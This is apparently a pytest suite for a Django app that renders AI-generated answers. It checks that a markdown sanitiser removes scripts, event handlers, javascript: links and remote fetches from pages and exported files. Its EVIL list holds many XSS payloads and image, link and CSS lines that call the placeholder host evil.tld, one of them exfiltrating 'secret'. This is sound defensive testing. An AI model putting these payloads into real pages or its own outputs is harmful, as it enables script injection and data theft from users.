"""Nothing that a model or client puts into an answer runs, fetches or leads away.

See docs/threats.md#t57.
"""

import json
import re
import time
from collections.abc import Callable
from io import BytesIO
from typing import Any

import docx
import pytest
from django.test import Client

from aianalyzer.exports import markdown_file, word_file
from aianalyzer.models import InquiryAiGeneration
from aianalyzer.queries.record import answer_html
from aianalyzer.queries.sources import sources_of
from aianalyzer.services import record_generation
from aianalyzer.tests.conftest import Start
from core.accounts.models import User
from core.text.markdown_html import neutralised, safe_markdown
from tests.people import text_of

EVIL = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![x](http://evil.tld/?d=secret)",
    "![x][r]\n\n[r]: http://evil.tld/x.png",
    "[click](javascript:alert(1))",
    "[click](http://evil.tld)",
    "[click][r]\n\n[r]: javascript:alert(1)",
    "<http://evil.tld>",
    "<a href='http://evil.tld'>x</a>",
    "<svg/onload=alert(1)>",
    "<iframe src=//evil.tld></iframe>",
    "<style>@import url(http://evil.tld)</style>",
    "<link rel=stylesheet href=//evil.tld>",
    "<meta http-equiv=refresh content='0;url=http://evil.tld'>",
    "<base href=//evil.tld>",
    "<form action=//evil.tld><button>x</button></form>",
    "<details open ontoggle=alert(1)>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<<script>script>alert(1)<</script>/script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "`<script>`",
    "```html\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "| <b onmouseover=alert(1)>x</b> | y |\n|---|---|\n| 1 | 2 |",
    "[^1]: <script>",
    "x [^1](javascript:alert(1))",
    '"><script>alert(1)</script>',
    "<p style='background:url(//evil.tld)'>x</p>",
    "<object data=//evil.tld>",
    "<embed src=//evil.tld>",
    "<video src=//evil.tld autoplay>",
    "<input onfocus=alert(1) autofocus>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "[a]: data:text/html,<script>alert(1)</script>\n\n[a]",
    "\u202e<script>",
    "<script\x00>alert(1)</script>",
    "* * *\n<hr onclick=alert(1)>",
    "**<b>bold</b>**",
]
DANGER = re.compile(
    r"<(?!/?(?:p|br|hr|strong|em|del|code|pre|blockquote|ul|ol|li|h[1-6]|table|thead|tbody|tr|th|td)>|hr />|br />)[a-z!/]",
    re.IGNORECASE,
)
ATTRIBUTE = re.compile(r"<[a-z0-9]+\s+[a-z-]+=", re.IGNORECASE)


@pytest.mark.parametrize("evil", EVIL)
def test_nothing_but_plain_elements_comes_out(evil: str) -> None:
    html = safe_markdown(evil)
    assert not DANGER.search(html), html
    assert not ATTRIBUTE.search(html), html


@pytest.mark.parametrize("evil", EVIL)
def test_a_file_has_nothing_that_a_viewer_would_fetch(evil: str) -> None:
    text = neutralised(evil)
    assert "<" not in text
    assert not re.search(r"(?<!\\)!\[", text)
    assert "](" not in text
    assert not re.search(r"(?<!\\)\]:", text)


def test_the_nets_catch_what_they_should() -> None:
    assert DANGER.search("<script>")
    assert DANGER.search("<a>")
    assert not DANGER.search("<p><strong>x</strong></p>")
    assert ATTRIBUTE.search('<p class="x">')


def test_headings_and_rules_read_as_the_library_reads_them() -> None:
    text = "a\n# b\nc\n---\n- d\n* * *\n> # e\n> f\n\n    # g\n    ---\n"
    html = safe_markdown(text)
    assert "<h1>b</h1>" in html
    assert html.count("<hr") == 2
    assert "<blockquote>\n<h1>e</h1>\n<p>f</p>" in html
    assert "<code># g\n---\n</code>" in html


@pytest.mark.parametrize(
    "text",
    [
        ">" * 60_000,
        "[" * 60_000,
        "[a](" * 15_000,
        "`a" * 30_000,
        "*a" * 30_000,
        "|a" * 30_000,
        "  " * 200 + "- x\n" * 9_000,
        "&a;" * 20_000,
        "\\*" * 30_000,
        "a\n=\n" * 15_000,
        "<a" * 300_000,
        *(
            before + line * (60_000 // len(line + before))
            for before in ("", "x\n", "> ", "- ")
            for line in ("* * *\n", "#\n", "x\n---\n", "- - -\n", "# x\n", "\n", "_*")
        ),
        *(
            line * (60_000 // len(line))
            for line in (
                "> #\n",
                "> ---\n",
                "- #\n",
                "  - ***\n",
                "> > # x\n",
                "1. #\n",
            )
        ),
        "\n" * 200_000,
    ],
)
def test_no_text_takes_long_to_show(text: str) -> None:
    began = time.monotonic()
    safe_markdown(text)
    assert time.monotonic() - began < 5


@pytest.mark.django_db
@pytest.mark.parametrize("evil", EVIL)
def test_the_page_and_the_files_of_a_recorded_answer_are_harmless(
    evil: str, agus: User
) -> None:
    row = record_generation(
        by=agus, fields={"content": evil, "file_name": "a.pdf", "model": "gpt4"}
    )
    html = answer_html(row, sources_of(row))
    assert not DANGER.search(html)
    assert b"<" not in markdown_file(row).replace(b"> ", b"")
    with word_file(row) as file:
        assert docx.Document(BytesIO(file.read())).paragraphs


@pytest.mark.django_db
@pytest.mark.parametrize("evil", EVIL[:12])
def test_a_line_of_a_model_shows_its_markup_as_text(
    evil: str,
    analysed: Start,
    chat: Any,
    as_person: Callable[[User], Client],
    agus: User,
) -> None:
    chat.answer = lambda _system, _user: json.dumps(
        {"kind": "point", "text": evil, "page": 1, "quote": evil}
    )
    row = analysed(model="m1")
    assert row.state == "done"
    page = text_of(as_person(agus).get(f"/analyzer/answers/{row.pk}/"))
    answer = page[page.index('id="answer"') : page.index('id="answer-markdown"')]
    assert "<script" not in answer
    assert "<img" not in answer
    assert "evil.tld" not in re.sub(r">[^<]*<|title=\"[^\"]*\"", "", answer)


@pytest.mark.django_db
def test_references_that_nobody_set_lead_nowhere(agus: User) -> None:
    row = record_generation(
        by=agus, fields={"content": "x [^1] [^99] y", "file_name": "", "model": ""}
    )
    assert "[^" not in answer_html(row, sources_of(row))
    assert InquiryAiGeneration.objects.count() == 1
